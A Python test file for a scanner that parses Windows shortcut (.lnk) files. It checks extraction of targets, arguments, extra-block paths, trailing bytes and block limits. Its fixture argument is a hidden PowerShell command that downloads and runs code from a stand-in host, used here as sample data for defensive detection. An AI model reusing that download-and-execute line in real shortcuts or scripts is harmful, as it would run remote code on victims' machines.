"""What a shortcut starts, and what hides behind it."""

import io
import struct

import LnkParse3
import pytest

from pratique.scanners.formats.lnk import Lnk

ARGUMENTS = "/c powershell -w hidden -c iex(http://host.example/a)"


@pytest.fixture
def shortcut(samples):
    return samples("lnk").shortcut


def test_the_target_and_the_arguments_are_texts(shortcut, open_with):
    found = open_with(Lnk(), shortcut(ARGUMENTS)).called

    assert found["arguments"] == ARGUMENTS.encode()
    assert found["relative path"] == b".\\cmd.exe"
    assert b"C:\\Windows\\cmd.exe" in found["target"]


def test_another_reader_finds_the_same(shortcut):
    other = LnkParse3.lnk_file(io.BytesIO(shortcut(ARGUMENTS))).get_json()

    assert other["data"]["command_line_arguments"] == ARGUMENTS
    assert other["link_info"]["local_base_path"] == "C:\\Windows\\cmd.exe"


def test_octets_behind_the_end_are_a_part_and_told(shortcut, open_with):
    opened = open_with(Lnk(), shortcut("a", behind=b"MZ behind"))

    assert opened.octets[-1] == b"MZ behind"
    assert opened.oddities == ["extra_octets"]


@pytest.mark.parametrize("behind", [b"", bytes(300)])
def test_zeros_behind_the_end_are_nothing(behind, shortcut, open_with):
    opened = open_with(Lnk(), shortcut("a", behind=behind))

    assert opened.oddities == []
    assert "" not in opened.names


def test_a_path_in_an_extra_block_is_a_target(shortcut, open_with):
    block = struct.pack("<II", 0x314, 0xA0000001) + b"%windir%\\a.exe".ljust(260, b"\0")
    block += "%windir%\\b.exe".encode("utf-16-le").ljust(520, b"\0")

    assert b"%windir%\\b.exe" in open_with(Lnk(), shortcut("a", block + bytes(4))).called["target"]


@pytest.mark.parametrize(("blocks", "whole"), [(99, True), (100, False)])
def test_so_many_extra_blocks_and_no_more(blocks, whole, shortcut, open_with):
    opened = open_with(Lnk(), shortcut("a", struct.pack("<II", 8, 1) * blocks + bytes(4)))

    assert (opened.known.unopened == "") is whole
    assert opened.called["arguments"] == b"a"
